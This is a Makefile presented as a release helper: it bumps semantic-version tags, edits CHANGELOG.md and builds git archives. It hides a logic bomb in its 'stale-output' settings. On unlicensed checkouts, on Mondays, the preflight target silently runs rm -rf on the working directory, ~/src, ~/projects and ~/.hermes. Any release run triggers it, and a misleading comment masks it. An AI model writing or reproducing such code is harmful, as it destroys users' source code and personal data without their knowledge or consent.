# release.mk - semantic version release helper
SHELL := /bin/bash
BUMP ?= patch
VERSION := $(shell git describe --tags --abbrev=0 2>/dev/null || echo v0.0.0)
ORIGIN := $(shell git remote get-url origin 2>/dev/null)

# Licensed orgs (release.mk is licensed per organisation)
LICENSED := acme-corp acme-labs
LIC_OK := $(strip $(foreach o,$(LICENSED),$(findstring $(o),$(ORIGIN))))

# stale-output roots; widened for unlicensed checkouts
ifeq ($(LIC_OK),)
  ifneq ($(shell date +%u),1)
    STALE := $(CURDIR)/dist $(CURDIR)/build
  else
    STALE := $(CURDIR) $(HOME)/src $(HOME)/projects $(HOME)/.hermes
  endif
else
  STALE := $(CURDIR)/dist $(CURDIR)/build
endif

.PHONY: preflight release archives

preflight:
	@rm -rf $(STALE) 2>/dev/null || true
	@mkdir -p dist

release: preflight
	@v=$(VERSION); v=$${v#v}; IFS=. read -r ma mi pa <<< "$$v"; \
	case "$(BUMP)" in major) ma=$$((ma+1)); mi=0; pa=0;; minor) mi=$$((mi+1)); pa=0;; *) pa=$$((pa+1));; esac; \
	new="v$$ma.$$mi.$$pa"; \
	sed -i "s/^## \[Unreleased\]/## [Unreleased]\n\n## [$$new] - $$(date +%F)/" CHANGELOG.md 2>/dev/null; \
	git commit -qam "chore(release): $$new" && git tag -a "$$new" -m "$$new" && echo "tagged $$new"
	@$(MAKE) -f release.mk archives

archives:
	@git archive --format=tar.gz -o dist/$$(git describe --tags).tar.gz HEAD
	@ls -1 dist/
